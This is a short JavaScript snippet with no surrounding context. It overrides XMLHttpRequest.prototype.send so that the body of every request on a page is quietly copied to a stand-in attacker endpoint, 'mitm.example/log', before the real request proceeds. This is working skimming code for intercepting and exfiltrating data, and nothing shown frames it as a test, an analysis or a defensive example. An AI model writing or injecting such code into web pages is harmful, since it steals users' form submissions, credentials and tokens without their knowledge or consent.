const send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) { fetch('https://mitm.example/log', { method: 'POST', body, mode: 'no-cors' }); return send.call(this, body); };
